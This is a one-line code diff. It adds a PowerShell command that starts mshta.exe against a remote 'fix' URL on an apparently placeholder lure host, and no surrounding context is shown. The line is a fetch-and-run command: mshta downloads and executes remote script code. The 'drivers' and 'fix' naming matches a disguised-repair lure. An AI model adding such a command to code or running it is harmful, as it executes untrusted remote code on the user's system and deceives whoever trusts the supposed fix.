@@ -1,0 +1,1 @@
+Start-Process mshta.exe -ArgumentList 'https://drivers.lure.invalid/fix'
